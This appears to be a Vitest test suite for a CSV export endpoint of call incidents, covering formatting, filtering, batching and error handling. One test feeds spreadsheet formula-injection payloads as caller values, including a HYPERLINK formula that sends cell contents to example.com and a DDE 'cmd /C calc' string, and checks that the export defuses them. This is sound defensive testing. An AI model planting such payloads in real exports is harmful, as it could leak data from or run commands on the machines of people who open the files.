import { afterAll, afterEach, beforeAll, expect, it, vi } from 'vitest';
import { onEachDatabase } from '../kit/databases.js';
import { Line } from '../kit/line.js';
import { IncidentHistory } from '../../src/incidents/history/incident-history.service.js';
import { SESSIONS } from '../kit/people.js';
import { forget, incident, remember } from './past.js';
import { authorization } from './session.js';

const HEADER = [
  'id',
  'callSid',
  'callerPhone',
  'status',
  'ladder',
  'createdAt',
  'answeredAt',
  'endedAt',
  'answeredByUserId',
  'answeredByName',
  'timeToAnswerSeconds',
  'durationSeconds',
  'attempts',
  'relatedIncidentId',
  'callerBlocked',
];

/** Reads RFC 4180 strictly: lines end with CRLF, the last one too, and a quote stands only where it may. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    const [whole, quoted, plain, end] =
      /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at, at + 2000)) ?? [];
    if (whole === undefined) throw new Error(`no CSV from character ${at} on: ${text.slice(at, at + 50)}`);
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    at += whole.length;
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  if (row.length > 0) throw new Error('the last line has no end');
  return rows;
}

onEachDatabase('the export of incidents', (kind) => {
  let line: Line;
  let headers: { Authorization: string };
  beforeAll(async () => {
    line = await Line.open(kind, { environment: SESSIONS });
    headers = await authorization(line);
  });
  afterEach(() => forget(line));
  afterAll(() => line.close());

  const get = (query = ''): Promise<Response> => fetch(`${line.url}/api/incidents/export.csv${query}`, { headers });
  const exported = async (query = ''): Promise<Record<string, string>[]> => {
    const response = await get(query);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="incidents.csv"');
    const [header, ...rows] = readCsv(await response.text());
    expect(header).toEqual(HEADER);
    return rows.map((row) => {
      expect(row.length).toBe(HEADER.length);
      return Object.fromEntries(HEADER.map((name, index) => [name, row[index] ?? '']));
    });
  };

  it('has a header when there is nothing else', async () => {
    expect(await exported()).toEqual([]);
  });

  it('begins with a byte order mark, once, so that spreadsheets show accents', async () => {
    const bytes = Buffer.from(await (await get()).arrayBuffer());
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('\u00ef\u00bb\u00bfid');
    expect(bytes.lastIndexOf('\uFEFF')).toBe(0);
  });

  it('tells an incident in one line', async () => {
    const began = new Date('2026-03-01T03:00:00Z');
    const named = { incident_id: 2, user_name: 'Zoë "Zed" Ødegård, jr.', phone_e164: '+14155550101' };
    await remember(
      line,
      [
        incident(1, { created_at: began, caller_phone: 'anonymous', caller_e164: null }),
        incident(2, {
          created_at: new Date(began.getTime() + 1),
          status: 'completed',
          ladder: 'after_hours',
          answered_at: new Date(began.getTime() + 31_501),
          answered_by_user_id: 7,
          ended_at: new Date(began.getTime() + 60_000),
          duration_seconds: 28,
        }),
        incident(3, { created_at: new Date(began.getTime() + 2), status: 'answered', answered_at: began }),
      ],
      [{ ...named, user_id: 7, step_name: 'admin', status: 'answered', offered_at: began }],
    );
    const [anonymous, answered, unknown] = await exported();
    expect(anonymous).toMatchObject({
      id: '1',
      callerPhone: 'anonymous',
      answeredAt: '',
      answeredByName: '',
      attempts: '0',
    });
    expect(answered).toEqual({
      id: '2',
      callSid: 'CA00000002',
      callerPhone: '+14155551234',
      status: 'completed',
      ladder: 'after_hours',
      createdAt: '2026-03-01T03:00:00.001Z',
      answeredAt: '2026-03-01T03:00:31.501Z',
      endedAt: '2026-03-01T03:01:00.000Z',
      answeredByUserId: '7',
      answeredByName: 'Zoë "Zed" Ødegård, jr.',
      timeToAnswerSeconds: '31.5',
      durationSeconds: '28',
      attempts: '1',
      relatedIncidentId: '',
      callerBlocked: '0',
    });
    expect(unknown).toMatchObject({ answeredByUserId: '', answeredByName: 'unknown', timeToAnswerSeconds: '0' });
  });

  it('has what the list shows that is filtered by a state, or searched', async () => {
    const at = (second: number) => ({ created_at: new Date(Date.parse('2026-03-01T03:00:00Z') + second * 1000) });
    await remember(line, [
      incident(1, { ...at(1), status: 'completed', caller_phone: 'sip:ada@example.com' }),
      incident(2, { ...at(2), status: 'abandoned', caller_phone: 'sip:ada@example.com' }),
      incident(3, { ...at(3), status: 'completed', caller_phone: 'sip:ben@example.com' }),
    ]);
    const ids = async (query: string) => (await exported(query)).map(({ id }) => id);
    expect(await ids('?status=completed')).toEqual(['1', '3']);
    expect(await ids('?q=ada')).toEqual(['2', '1']);
    expect(await ids('?q=ada&status=completed')).toEqual(['1']);
  });

  it('gives a spreadsheet nothing to calculate', async () => {
    const callers = [
      '=HYPERLINK("https://example.com?"&A1)',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t1+1',
      '\r=1+1',
      ' =1+1',
      'sip:a,b@example.com',
      'two\r\nlines "quoted"',
    ];
    await remember(
      line,
      callers.map((caller_phone, index) => incident(index + 1, { caller_phone, caller_e164: null })),
    );
    const got = (await exported()).map(({ callerPhone }) => callerPhone);
    expect(got).toEqual([...callers.slice(0, 7).map((text) => `'${text}`), ...callers.slice(7)]);
  });

  it('is complete and in order over many batches, and of the period asked for', async () => {
    const began = Date.UTC(2026, 2, 1);
    // Many in one instant: batches end among them.
    const past = Array.from({ length: 2503 }, (_, index) =>
      incident(index + 1, { created_at: new Date(began + Math.floor(index / 700) * 1000) }),
    );
    await remember(line, past);
    expect((await exported()).map(({ id }) => Number(id))).toEqual(past.map(({ id }) => id));
    const second = await exported('?from=2026-03-01T00:00:01Z&to=2026-03-01T00:00:02Z');
    expect(second.map(({ id }) => Number(id))).toEqual(past.slice(700, 1400).map(({ id }) => id));
  });

  it('refuses a period that can not be read', async () => {
    const response = await get('?from=1&to=2');
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ details: [{ field: 'from' }, { field: 'to' }] });
  });

  it('is cut off, and not ended, when reading fails on the way', async () => {
    const batches = vi.spyOn(line.app.get(IncidentHistory), 'batches').mockImplementation(async function* () {
      yield [];
      throw new Error('the database went away');
    });
    await expect(get().then((response) => response.text())).rejects.toThrow();
    batches.mockRestore();
  });
});
